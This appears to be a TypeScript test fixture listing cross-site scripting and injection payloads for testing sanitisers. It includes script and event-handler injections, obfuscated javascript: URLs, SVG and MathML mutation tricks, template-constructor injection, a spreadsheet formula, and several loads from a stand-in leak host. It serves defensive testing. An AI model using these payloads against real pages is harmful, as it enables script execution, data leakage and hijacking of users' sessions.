/** What a page would do once one of the payloads ran: the tests listen for it. */
export const CALL = 'window.hostileRan()';
/** Nobody answers there: every request to it is a leak. */
const ELSEWHERE = 'http://outside.invalid/leak';

/** Texts that would run a program, load something from elsewhere or change what is shown, in a page that took them as they are. */
export const PAYLOADS: Readonly<Record<string, string>> = {
  script: `<script>${CALL}</script>`,
  'script-src': `<script src="${ELSEWHERE}.js"></script>`,
  'closing-script': `</script><script>${CALL}</script>`,
  'closing-attribute': `" onmouseover="${CALL}" autofocus onfocus="${CALL}" x="`,
  'closing-single': `' onfocus='${CALL}' autofocus x='`,
  'image-handler': `<img src=x onerror=${CALL}>`,
  'image-outside': `<img src="${ELSEWHERE}.png">`,
  svg: `<svg onload=${CALL}><animate onbegin=${CALL} attributeName=x dur=1s></svg>`,
  'svg-script': `<svg><script>${CALL}</script></svg>`,
  math: `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${CALL}&gt;">`,
  javascript: `javascript:${CALL}`,
  'javascript-broken': `java\tscript:${CALL}`,
  'javascript-entity': `&#106;avascript&colon;${CALL}`,
  'javascript-upper': `JaVaScRiPt://%0a${CALL}`,
  'link-markdown': `[押す](javascript:${CALL})`,
  'image-markdown': `![絵](${ELSEWHERE}.png)`,
  autolink: `<javascript:${CALL}>`,
  data: `data:text/html,<script>parent.${CALL}</script>`,
  iframe: `<iframe srcdoc="<script>parent.${CALL}</script>"></iframe>`,
  style: `<style>@import "${ELSEWHERE}.css"; * { display: none }</style>`,
  'css-value': `red; background: url(${ELSEWHERE}.gif)`,
  meta: `<meta http-equiv="refresh" content="0; url=${ELSEWHERE}"><base href="${ELSEWHERE}">`,
  form: `<form action="${ELSEWHERE}"><button autofocus onfocus=${CALL}>送る`,
  comment: `<!--><img src=x onerror=${CALL}>-->`,
  entities: `&lt;img src=x onerror=${CALL}&gt;&#x3c;script&#x3e;${CALL}&#x3c;/script&#x3e;`,
  template: `{{constructor.constructor('${CALL}')()}}\${${CALL}}`,
  formula: `=HYPERLINK("${ELSEWHERE}","見る")`,
  prototype: '__proto__',
};
